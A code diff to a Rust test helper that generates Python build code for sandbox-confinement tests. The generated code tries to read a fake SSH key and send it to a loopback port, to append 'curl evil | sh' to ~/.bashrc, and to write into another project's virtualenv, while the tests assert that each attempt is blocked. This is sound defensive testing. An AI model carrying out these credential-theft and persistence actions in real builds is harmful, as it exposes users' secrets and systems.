@@ -153,8 +153,9 @@ pub fn py_evil_build(marker: &str) -> String {
 /// Python build code for the confinement tests: tries to read a fake
 /// `~/.ssh/id_rsa`, send it to the loopback port in `~/.evil-port` straight
 /// (a socket, no proxy) and through urllib (the proxy variables), write
-/// `~/outside-marker`, append to `~/.bashrc` and write into its temp dir;
-/// each attempt's outcome (`ok` or the error) goes into marker `name` as
+/// `~/outside-marker`, append to `~/.bashrc`, write into the directory
+/// named in `~/.victim-dir` (when there is one: another project's
+/// virtualenv) and into its temp dir; each attempt's outcome (`ok` or the error) goes into marker `name` as
 /// JSON. It never fails the build itself.
 pub fn py_confined_build(name: &str) -> String {
     r#"import os as _o, json as _j, socket as _s, tempfile as _t, urllib.request as _u
@@ -179,6 +180,9 @@ _try('proxied', lambda: _u.urlopen('http://127.0.0.1:%d/proxied' % _port, data=b
 _try('outside', lambda: open(_o.path.join(_h, 'outside-marker'), 'w').write('x'))
 _try('bashrc', lambda: open(_o.path.join(_h, '.bashrc'), 'a').write('curl evil | sh\n'))
 _try('tmp', lambda: open(_o.path.join(_t.gettempdir(), 'tmp-marker'), 'w').write('x'))
+_v = _o.path.join(_h, '.victim-dir')
+if _o.path.exists(_v):
+    _try('victim', lambda: open(_o.path.join(open(_v).read().strip(), 'pwned'), 'w').write('x'))
 _d = _o.environ.get(ENV) or _h
 with open(_o.path.join(_d, NAME), 'w') as _f:
     _f.write(_j.dumps(_r))
@@ -218,7 +222,7 @@ pub fn assert_py_confined(
 ) {
     let report = report.unwrap_or_else(|| panic!("{what}: the approved build did not run"));
     let r: serde_json::Value = serde_json::from_str(&report).unwrap();
-    for k in ["ssh", "direct", "proxied", "outside", "bashrc"] {
+    for k in ["ssh", "direct", "proxied", "outside", "bashrc", "victim"] {
         assert_ne!(r[k], "ok", "{what}: `{k}` was allowed: {r}");
     }
     assert_eq!(r["tmp"], "ok", "{what}: its temp dir: {r}");
